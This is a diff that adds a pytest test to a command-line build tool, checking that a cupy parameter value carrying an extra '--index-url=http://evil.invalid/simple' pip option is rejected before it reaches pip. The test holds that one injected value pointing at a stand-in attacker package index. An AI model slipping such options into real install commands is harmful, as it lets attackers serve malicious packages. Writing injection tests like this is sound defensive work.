@@ -447,3 +447,15 @@ def test_interrupt_exits_cleanly_and_removes_what_this_process_created(monkeypat
     assert removed == [True]
     assert "interrupted; removed containers abc123" in capsys.readouterr().err
 
+
+
+def test_a_parameter_cannot_bring_a_pip_option(scratch_tree: Path) -> None:
+    """The cupy parameter's own pattern lets an option through after the version; the rendered
+    requirement is checked against the pip grammar before it reaches pip's command line."""
+    proc = nodeforge(scratch_tree, "plan", "cupy-cuda12.9", "--set",
+                     "python-cupy.cupy=cupy-cuda12x>=1 --index-url=http://evil.invalid/simple")
+    assert proc.returncode == 2 and "Traceback" not in proc.stderr
+    assert "layers/python-cupy/layer.yaml:" in proc.stderr
+    assert "packages.pip[0]: expected a pip requirement" in proc.stderr
+    good = nodeforge(scratch_tree, "plan", "cupy-cuda12.9", "--set", "python-cupy.cupy=cupy-cuda12x>=13")
+    assert good.returncode == 0, good.stderr
